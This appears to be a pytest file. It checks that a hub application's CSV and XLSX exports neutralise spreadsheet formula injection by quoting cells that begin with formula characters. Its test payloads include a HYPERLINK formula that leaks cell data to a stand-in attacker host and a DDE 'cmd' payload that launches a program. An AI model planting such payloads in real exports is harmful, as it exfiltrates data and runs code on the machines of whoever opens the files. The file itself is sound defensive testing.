"""Every CSV and XLSX export of the hub neutralises spreadsheet formulas (web.spreadsheet).

A cell whose text starts with = + - @ TAB or CR would be read by Excel, WPS or LibreOffice
as a formula (``=HYPERLINK(...)`` sends a click to an attacker's site, ``=cmd|...`` runs a
program on old Excel). Each export is fetched over HTTP with such text in its data: the
audit log (a failed login's user name), the dashboard (an applicant's name), the supervision
report (an org unit's name), the catalogue (an item's name) and the annual disclosure report
(the name of the body). The node has no CSV or XLSX export.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from central_hub.catalogue.io import import_xlsx
from central_hub.jobs import run_background_once
from central_hub.projection.registry import run_all
from web.spreadsheet import FORMULA_STARTS, safe_cell, unquote_cell

from test_hub_core import COUNTY, Hub, csrf, draft_change, post, push_cases

PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
DANGEROUS = tuple(FORMULA_STARTS)


@pytest.fixture
def hub(tmp_path):
    hub = Hub(tmp_path / "hub")
    yield hub
    hub.close()


def csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(body: bytes) -> list:
    book = load_workbook(io.BytesIO(body))          # formulas come back as "=..." text
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.value is not None]


def assert_neutralised(cells: list, payloads) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(DANGEROUS), cell
            assert cell.startswith("'") or cell.lstrip("'")[:1] not in DANGEROUS
    texts = [c for c in cells if isinstance(c, str)]
    for payload in payloads:
        assert any(payload in c for c in texts), (payload, texts[:30])
        assert any(c == "'" + payload or c.startswith("'" + payload[:1]) for c in texts), payload


def test_safe_cell_quotes_every_formula_start_and_drops_illegal_xml():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
        assert unquote_cell(safe_cell(payload)) == payload
    assert safe_cell("a\x00b\x1fc") == "a\ufffdb\ufffdc"
    assert safe_cell("=x\x00") == "'=x\ufffd"
    for plain in ("王五", "'quoted", "1-2", "", "10%"):
        assert safe_cell(plain) == plain and unquote_cell(plain) == plain
    for value in (-5, 3.5, None, 0):
        assert safe_cell(value) == value


def test_audit_export_neutralises_a_formula_user_name(hub):
    """A failed login with the user name ``=HYPERLINK(...)`` was written raw into the CSV."""
    anonymous = hub.client()
    for name in PAYLOADS:
        response = anonymous.post("/login", data={"username": name, "password": "wrong",
                                                  "csrf_token": csrf(anonymous)},
                                  follow_redirects=False)
        assert response.status_code in (200, 401, 422, 429), response.status_code
    export = hub.client("auditadmin").get("/audit/export.csv")
    assert export.status_code == 200
    cells = csv_cells(export.content)
    assert any("HYPERLINK" in c for c in cells), "the failed login is in the audit log"
    payloads = [p for p in PAYLOADS if any(p in c for c in cells)]
    assert PAYLOADS[0] in payloads
    assert_neutralised(cells, payloads)


def test_dashboard_exports_neutralise_an_applicant_name(hub):
    push_cases(hub, "XZ-001", 2, applicant="=HYPERLINK(\"http://x\")")
    run_all(hub.store)
    run_background_once(hub.ctx)
    client = hub.client("admin")
    period = "from=2026-01-01&to=2026-12-31&metric=received"
    csv_body = client.get(f"/dashboard/export.csv?{period}")
    assert csv_body.status_code == 200
    xlsx_body = client.get(f"/dashboard/export.xlsx?{period}")
    assert xlsx_body.status_code == 200
    for cells in (csv_cells(csv_body.content), xlsx_cells(xlsx_body.content)):
        masked = [c for c in cells if isinstance(c, str) and "*" in c]
        assert masked and all(c.startswith("'=") for c in masked), masked
        assert_neutralised(cells, [])


def test_supervision_reports_neutralise_an_org_unit_name(hub):
    admin = hub.client("admin")
    added = post(admin, "/admin/orgs", {"code": f"{COUNTY}101", "name": "=cmd|' /C calc'!A0",
                                        "kind": "township", "parent": COUNTY})
    assert added.status_code == 303
    push_cases(hub, "XZ-001", 1, org_unit=f"{COUNTY}101")
    run_all(hub.store)
    for url in ("/supervision/reports.csv?by=unit", "/supervision/reports.xlsx?by=unit"):
        response = admin.get(url)
        assert response.status_code == 200, url
        cells = csv_cells(response.content) if ".csv" in url else \
            xlsx_cells(response.content)
        assert "'=cmd|' /C calc'!A0" in cells, (url, cells)
        assert_neutralised(cells, [])
    for url in ("/supervision/records.csv", "/supervision/records.xlsx"):
        assert admin.get(url).status_code == 200


def test_catalogue_export_neutralises_an_item_name_and_imports_it_back(hub):
    name = "=HYPERLINK(\"http://x\",\"最低生活保障\")"
    draft = draft_change(hub.client("mzdept"), name=name)
    assert draft.status_code == 303, draft.text[:500]
    draft_id = int(draft.headers["location"].rsplit("/", 1)[1])
    assert post(hub.client("mzdept"), f"/catalogue/drafts/{draft_id}/submit").status_code == 303
    for who in ("legal", "secrecy", "staff"):
        response = post(hub.client(who), f"/catalogue/drafts/{draft_id}/review",
                        {"decision": "pass", "opinion": "同意"})
        assert response.status_code == 303, who
    assert hub.store.draft(draft_id).state == "published"
    export = hub.client("admin").get("/catalogue/export.xlsx")
    assert export.status_code == 200
    cells = xlsx_cells(export.content)
    assert "'" + name in cells
    assert_neutralised(cells, [])
    imported = import_xlsx(export.content)          # the round trip gives the name back
    assert not imported.errors, imported.errors[:3]
    assert name in [i["name"] for i in imported.items]


def test_annual_report_xlsx_neutralises_the_body_name(hub):
    admin = hub.client("admin")
    added = post(admin, "/admin/orgs", {"code": f"{COUNTY}102", "name": "@SUM(1+1)*cmd",
                                        "kind": "township", "parent": COUNTY})
    assert added.status_code == 303
    for body in (f"{COUNTY}102", "=HYPERLINK(\"http://x\")", "-1+1", "XZ\x00"):
        response = admin.get("/disclosure/report.xlsx", params={"year": "2026", "body": body})
        assert response.status_code == 200, body        # NUL: IllegalCharacterError before
        cells = xlsx_cells(response.content)
        assert cells[0].startswith("XZ\ufffd" if "\x00" in body else "'"), cells[0]
        assert_neutralised(cells, [])
